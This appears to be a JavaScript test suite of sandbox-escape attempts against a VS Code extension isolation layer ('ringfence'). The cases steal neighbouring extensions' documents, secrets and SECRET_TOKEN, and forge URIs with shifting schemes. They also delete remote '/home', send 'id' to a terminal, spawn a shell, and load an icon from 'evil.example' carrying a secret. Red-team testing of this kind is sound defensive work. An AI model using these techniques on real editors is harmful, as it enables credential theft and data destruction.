'use strict'

/* eslint max-len: off */
// What somebody tried who had not written the loader, as it was written (round 8): README.md says which of it
// escapes and why. What is stopped joins the attacks of its class.

const { a, grant } = require('../host/lib.js')
const r8 = more => ({ round: 8, ...more })
const DUCK = `((vscode, path) => ({ $mid: 1, scheme: 'file', authority: '', path, query: '', fragment: '', fsPath: path,
  with() { return this }, toString: () => 'file://' + path, toJSON() { return { $mid: 1, scheme: 'file', path } } }))`
const withDuck = f => eval('(' + f.toString().replace('DUCK', DUCK) + ')')

module.exports = [
  a('b1 reads what is open, by a command of its own that is called on an object', async ({ vscode, T, other }) => {
    await other('victim.open', T.secret)
    const doc = vscode.workspace.textDocuments.find(d => d.fileName === T.secret)
    vscode.commands.registerCommand('acme.given', d => d.getText(), {})
    return vscode.commands.executeCommand('acme.given', doc)
  }, r8()),
  a('b2 reads any file, shown by an address of its own making', withDuck(async ({ vscode, T }) => {
    const e = await vscode.window.showTextDocument(DUCK(vscode, T.secret))
    vscode.commands.registerCommand('acme.given', d => d.getText(), {})
    return vscode.commands.executeCommand('acme.given', e.document)
  }), r8()),
  a('b3 changes what the active editor shows by a command of editors', async ({ vscode, T, other }) => {
    await other('victim.show', T.secret)
    vscode.commands.registerTextEditorCommand('acme.edits', (editor, edit) => { edit.insert(new vscode.Position(0, 0), 'x') })
    await vscode.commands.executeCommand('acme.edits')
    await new Promise(r => setTimeout(r, 500))
    return 'done'
  }, r8({ goal: 'call', call: 'MainThreadTextEditors.$tryApplyEdits' })),
  a('b4 the addresses of others, by a date that provides texts', async ({ vscode, other }) => {
    let got = 'no'
    vscode.workspace.registerTextDocumentContentProvider('mine', Object.assign(new Date(), { provideTextDocumentContent(uri) {
      for (let p = Object.getPrototypeOf(uri); p !== Object.prototype; p = Object.getPrototypeOf(p)) {
        const d = Object.getOwnPropertyDescriptor(p, 'fsPath')
        if (d && d.get) Object.defineProperty(p, 'fsPath', { configurable: true, get() { got = this.path; return d.get.call(this) } })
      }
      return 'x'
    } }))
    try { await vscode.window.showTextDocument(vscode.Uri.parse('mine:/x')) } catch { /* whatever */ }
    other('address')
    return got
  }, r8()),
  a('b5 the environment, by a date that it exports', ({ other }) => {
    other('uses')
    const g = [].concat(globalThis.__g ?? [])[0] ?? require('./kept.js').g
    return g.process.env.SECRET_TOKEN
  }, r8({ inv: 4 })),
  a('b6 the machine by a logger of telemetry', ({ vscode }) => {
    let got = 'no'
    const l = vscode.env.createTelemetryLogger({ sendEventData(n, d) { if (d && JSON.stringify(d).includes('vscodemachineid')) got = 'yes' }, sendErrorData(e, d) { if (d && JSON.stringify(d).includes('vscodemachineid')) got = 'yes' } })
    l.logUsage('x', {})
    l.logError('x', {})
    return got
  }, r8()),
  a('b8 copies on another machine, by a file system for its scheme', async ({ vscode }) => {
    vscode.workspace.registerFileSystemProvider('vscode-remote', { onDidChangeFile: () => ({ dispose() {} }), watch: () => ({ dispose() {} }),
      stat() {}, readDirectory: () => [], createDirectory() {}, readFile() {}, writeFile() {}, delete() {}, rename() {} })
    await vscode.workspace.fs.copy(vscode.Uri.parse('vscode-remote://x/y'), vscode.Uri.parse('vscode-remote://x/z'))
    return 'yes'
  }, r8({ goal: 'call', call: 'MainThreadFileSystem.$copy', policy: { modules: { vscode: ['workspace.registerFileSystemProvider'] } } })),
  a('b9 a webview that shows the disk as the data of the user', ({ vscode }) => {
    const p = vscode.window.createWebviewPanel('acme.w', 'x', 1, { enableScripts: true,
      localResourceRoots: [vscode.Uri.from({ scheme: 'vscode-userdata', path: '/' })] })
    return (p.webview.options.localResourceRoots ?? []).some(u => u.scheme === 'vscode-userdata' && u.path === '/') ? 'yes' : 'no'
  }, r8(grant('webview'))),
  a('b10 takes over a command that another names in its activation events', async ({ vscode, victim }) => {
    vscode.commands.registerCommand('victim.later', x => 'yes')
    try { await victim('later') } catch { /* it is taken */ }
    return victim('victim.later')
  }, r8()),
  a('b11 a command of the editor behind a click', async ({ vscode }) => {
    const i = vscode.window.createStatusBarItem()
    i.text = 'OK'
    i.command = { command: 'workbench.action.terminal.sendSequence', title: '', arguments: [{ text: 'id\n' }] }
    i.show()
    await new Promise(r => setTimeout(r, 300))
    return 'done'
  }, r8({ goal: 'call', call: 'MainThreadStatusBar.$setEntry' })),
  a('b12 an address elsewhere that the workbench fetches as an icon', async ({ vscode }) => {
    vscode.window.createTextEditorDecorationType({ before: { contentIconPath: vscode.Uri.parse('https://evil.example/?secret') } })
    await new Promise(r => setTimeout(r, 300))
    return 'done'
  }, r8({ goal: 'call', call: 'MainThreadTextEditors.$registerTextEditorDecorationType' })),
  a('b13 its own manifest, saved as a document', async ({ vscode, T }) => {
    const file = T.own.replace('data.txt', 'package.json')
    const e = await vscode.window.showTextDocument(vscode.Uri.file(file))
    await e.edit(b => b.insert(new vscode.Position(0, 0), ' '))
    return (await e.document.save()) ? 'yes' : 'no'
  }, r8({ ...grant('documents', 'files.write'), inv: 11, goal: 'call', call: 'MainThreadDocuments.$trySaveDocument' })),
  a('b14 reads any file that it shows, as a document', async ({ vscode, T }) =>
    (await vscode.window.showTextDocument(vscode.Uri.file(T.secret))).document.getText(), r8(grant('documents'))),
  a('b15 its own manifest, by saving all', async ({ vscode, T }) => {
    const file = T.own.replace('data.txt', 'package.json')
    const e = await vscode.window.showTextDocument(vscode.Uri.file(file))
    await e.edit(b => b.insert(new vscode.Position(0, 0), ' '))
    await vscode.workspace.saveAll()
    return 'yes'
  }, r8({ inv: 11, goal: 'call', call: 'MainThreadWorkspace.$saveAll', policy: { vscode: ['documents'], modules: { vscode: ['workspace.saveAll'] } } })),
  a('b16 reads a file by an address that says its scheme late', withDuck(async ({ vscode, T, text }) => {
    const u = DUCK(vscode, T.secret)
    let n = 0
    Object.defineProperty(u, 'scheme', { enumerable: true, get: () => (new Error().stack.includes('ringfence.main') && n++ < 6 ? undefined : 'file') })
    u.uri = vscode.Uri.file(T.own)
    return text(await vscode.workspace.fs.readFile(u))
  }), r8(grant({ surface: 'files.read', resource: '${extension}/**' }))),
  a('b17 the real classes by a list of bytes that is a tree', async ({ vscode, other }) => {
    let got = 'no'
    const data = Object.assign(new Uint8Array(1), { getChildren: () => ['a'], getTreeItem: e => new vscode.TreeItem(e),
      onDidChangeTreeData: f => { got = f.constructor === (() => {}).constructor ? 'yes' : 'other'; return { dispose() {} } } })
    vscode.window.createTreeView('acme.tree', { treeDataProvider: data })
    return got
  }, r8({ declares: { views: { explorer: [{ id: 'acme.tree', name: 'x' }] } } })),
  a('b18 writes what another machine has, by an edit of its own scheme', async ({ vscode }) => {
    vscode.workspace.registerFileSystemProvider('vscode-remote', { onDidChangeFile: () => ({ dispose() {} }), watch: () => ({ dispose() {} }),
      stat() {}, readDirectory: () => [], createDirectory() {}, readFile() {}, writeFile() {}, delete() {}, rename() {} })
    const e = new vscode.WorkspaceEdit()
    e.deleteFile(vscode.Uri.parse('vscode-remote://x/home'), { recursive: true })
    return (await vscode.workspace.applyEdit(e)) ? 'yes' : 'no'
  }, r8({ policy: { modules: { vscode: ['workspace.registerFileSystemProvider'] } } })),
  a('b19 the page of its own permissions, forged', async ({ vscode }) => {
    vscode.workspace.registerTextDocumentContentProvider('ringfence.acme.tested', { provideTextDocumentContent: () => 'forged' })
    return 'yes'
  }, r8()),
  a('b21 reads a file by an address that the real class reads otherwise', async ({ vscode, T, text }) => {
    vscode.workspace.registerTextDocumentContentProvider('mine', Object.assign(new Date(), { provideTextDocumentContent(uri) {
      for (let p = Object.getPrototypeOf(uri); p !== Object.prototype; p = Object.getPrototypeOf(p)) {
        const d = Object.getOwnPropertyDescriptor(p, 'fsPath')
        if (d && d.get) Object.defineProperty(p, 'fsPath', { configurable: true, get() { return this.path === T.own ? T.secret : d.get.call(this) } })
      }
      return 'x'
    } }))
    try { await vscode.window.showTextDocument(vscode.Uri.parse('mine:/x')) } catch { /* whatever */ }
    return text(await vscode.workspace.fs.readFile(vscode.Uri.file(T.own)))
  }, r8(grant({ surface: 'files.read', resource: '${extension}/**' }))),
  a('b22 the text of what a neighbour opens, in a session of providers of its own', async ({ vscode, T, other }) => {
    let got = 'no'
    await other('victim.open', T.secret)
    const doc = vscode.workspace.textDocuments.find(d => d.fileName === T.secret)
    vscode.commands.registerCommand('acme.lines', d => { for (let i = 0; i < d.lineCount; i++) got = d.lineAt(i).text }, [])
    await vscode.commands.executeCommand('acme.lines', doc)
    return got
  }, r8()),
  a('b23 what another puts into an emitter of the own, by bytes', async ({ vscode, other }) => {
    const e = new vscode.EventEmitter()
    let got = 'no'
    e.event(v => { got = typeof v.f === 'function' ? 'fn' : 'x' })
    e.fire(Object.assign(new Date(), { f() {} }))
    return got === 'fn' ? 'no' : got
  }, r8()),
  a('b24 the secret of another, by a list as its name', async ({ context }) => {
    const r = await context.secrets.get(['token', 'x'])
    return r || (await context.secrets.get('","extensionId":"other.victim","key":"token')) || 'no'
  }, r8(grant('secrets'))),
  a('b25 the state of the workspace through a text document of the log', async ({ vscode, context }) => {
    const u = vscode.Uri.joinPath(context.globalStorageUri, 'ringfence', 'ringfence.jsonl')
    const e = new vscode.WorkspaceEdit()
    e.createFile(u, { overwrite: true, contents: new Uint8Array(1) })
    return (await vscode.workspace.applyEdit(e)) ? 'yes' : 'no'
  }, r8({ inv: 11, ...grant('files.write') })),
  a('b26 an edit of a file in a cell of a notebook', async ({ vscode, T }) => {
    const e = new vscode.WorkspaceEdit()
    e.insert(vscode.Uri.from({ scheme: 'vscode-notebook-cell', path: T.secret, fragment: 'x' }), new vscode.Position(0, 0), 'x')
    return (await vscode.workspace.applyEdit(e)) ? 'yes' : 'no'
  }, r8(grant({ surface: 'files.write', resource: '${extension}/**' }))),
  a('b27 text in a file that has none yet, by an address without one', async ({ vscode, T }) => {
    const e = new vscode.WorkspaceEdit()
    e.insert(vscode.Uri.from({ scheme: 'untitled', path: T.mark }), new vscode.Position(0, 0), 'x')
    return (await vscode.workspace.applyEdit(e)) ? 'yes' : 'no'
  }, r8()),
  a('b28 writes a file by an address that says its scheme late', withDuck(async ({ vscode, T }) => {
    const u = DUCK(vscode, T.mark)
    let n = 0
    Object.defineProperty(u, 'scheme', { enumerable: true, get: () => (new Error().stack.includes('ringfence.main') && n++ < 3 ? undefined : 'file') })
    u.uri = vscode.Uri.file(T.own)
    await vscode.workspace.fs.writeFile(u, new Uint8Array(1))
    return 'yes'
  }), r8({ goal: 'mark', ...grant({ surface: 'files.write', resource: '${extension}/**' }) })),
  a('b29 deletes a file on another machine by an address that says its scheme late', withDuck(async ({ vscode, T }) => {
    const u = DUCK(vscode, '/home')
    Object.defineProperty(u, 'scheme', { enumerable: true, get: () => (new Error().stack.split('\n').slice(0, 5).join().includes('ringfence.main') ? undefined : 'vscode-remote') })
    u.toJSON = () => ({ $mid: 1, scheme: 'vscode-remote', authority: 'x', path: '/home' })
    u.uri = vscode.Uri.file(T.own)
    await vscode.workspace.fs.delete(u)
    return 'yes'
  }), r8({ goal: 'call', call: 'MainThreadFileSystem.$delete', ...grant({ surface: 'files.write', resource: '${extension}/**' }) })),
  a('b30 puts a folder into the workspace whose scheme is not the disk\'s', async ({ vscode }) => {
    return vscode.workspace.updateWorkspaceFolders(0, 0, { uri: vscode.Uri.parse('vscode-userdata:/') }) ? 'yes' : 'no'
  }, r8({ goal: 'call', call: 'MainThreadWorkspace.$updateWorkspaceFolders', policy: { modules: { vscode: ['workspace.updateWorkspaceFolders'] } } })),
  a('b31 a setting of another, by inspecting in a section that is an object', ({ vscode }) =>
    JSON.stringify(vscode.workspace.getConfiguration(Object.assign(new String('x'), { split: () => [] })).inspect('victim.token') ?? vscode.workspace.getConfiguration(Object.assign(new String(''), { toString: () => 'victim' })).inspect('token') ?? 'no'), r8(grant({ surface: 'settings.read', resource: 'token' }))),
  a('b32 the environment, by a list of bytes that a neighbour calls', ({ other }) => {
    other('uses')
    return globalThis.__g2.process.env.SECRET_TOKEN
  }, r8({ inv: 4, exports: `() => ({ hook() {}, fn: Object.assign(() => {}, {}), list: Object.assign(new Uint8Array(1), { push(f) { globalThis.__g2 = f() } }) })` })),
  a('b33 the text of the active editor by a command of the editor that is bound to an object', async ({ vscode, T, other }) => {
    await other('victim.show', T.secret)
    let got = 'no'
    vscode.commands.registerTextEditorCommand('acme.reads', e => { got = e.document.getText() }, {})
    await vscode.commands.executeCommand('acme.reads')
    return got
  }, r8()),
  a('b34 the program of a debugger by its own factory', async ({ vscode, T }) => {
    const d = Object.assign(new Date(), { createDebugAdapterDescriptor: () => new vscode.DebugAdapterExecutable('/usr/bin/touch', [T.mark]) })
    vscode.debug.registerDebugAdapterDescriptorFactory('acme', d)
    return 'no'
  }, r8(grant('debug'))),
  a('b35 hears of files beside the workspace by a pattern that is bytes', async ({ vscode, T, require, victim }) => {
    const dir = require('path').dirname(T.secret)
    const w = vscode.workspace.createFileSystemWatcher(new vscode.RelativePattern(vscode.Uri.file(dir), '*'))
    let got = 'no'
    w.onDidCreate(() => { got = 'yes' }, Object.assign(new Date(), {}), [])
    await new Promise(r => setTimeout(r, 300)); victim('writes', dir + '/heard.txt'); await new Promise(r => setTimeout(r, 600))
    return got
  }, r8()),
  a('b36 the exports of another by an own extension object', async ({ vscode, context }) => {
    const e = context.extension
    Object.setPrototypeOf(e, null)
    const o = { __proto__: e, id: 'other.victim' }
    return (vscode.extensions.getExtension(Object.assign(new String('acme.tested'), { toString: () => 'other.victim' }))?.exports ?? o.exports)?.token
  }, r8()),
  a('k1 text for a terminal that it made while it was observed', async ({ vscode }) => {
    const t = vscode.window.createTerminal('x')
    const raw = !require('fs').readdirSync(__dirname).includes('ringfence.main.cjs')
    let over = raw
    for (let i = 0; i < 60 && !over; i++) {
      await new Promise(r => setTimeout(r, 100))
      try { vscode.window.createTerminal('y').dispose() } catch { over = true }
    }
    if (over) t.sendText('id')
    return 'over ' + over
  }, r8({ goal: 'call', call: 'MainThreadTerminalService.$sendText', config: { mode: 'observe', observeDays: 0.00002, tick: 200, extensionVersion: '1', policySha256: 'x' } })),
  a('k2 what another exports, by an extension that it had while it was observed', async ({ vscode }) => {
    const e = vscode.extensions.getExtension('other.victim')
    const raw = !require('fs').readdirSync(__dirname).includes('ringfence.main.cjs')
    let over = raw
    for (let i = 0; i < 60 && !over; i++) {
      await new Promise(r => setTimeout(r, 100))
      over = vscode.extensions.getExtension('other.victim') === undefined
    }
    return over ? e.exports.token : 'not over'
  }, r8({ config: { mode: 'observe', observeDays: 0.00002, tick: 200, extensionVersion: '1', policySha256: 'x' } })),
  a('k3 a program by a shell that it started while it was observed', async ({ vscode, require, T }) => {
    const sh = require('child_process').spawn('/bin/sh', [], { stdio: ['pipe', 'ignore', 'ignore'] })
    const raw = !require('fs').readdirSync(__dirname).includes('ringfence.main.cjs')
    let over = raw
    for (let i = 0; i < 60 && !over; i++) {
      await new Promise(r => setTimeout(r, 100))
      try { require('child_process').execFileSync('/bin/true') } catch { over = true }
    }
    if (over) sh.stdin.write('touch ' + T.mark + '\n')
    await new Promise(r => setTimeout(r, 500))
    return 'over ' + over
  }, r8({ goal: 'mark', config: { mode: 'observe', observeDays: 0.00002, tick: 200, extensionVersion: '1', policySha256: 'x' } })),
]
const b5 = module.exports.find(x => x.name.startsWith('b5'))
// What the extension exports is made beside the attack: it keeps what it got of the neighbour.
b5.exports = `() => Object.assign(new Date(), { hook(f) { globalThis.__g = f() }, mapper: undefined })`
const all = module.exports
module.exports = [...all
]
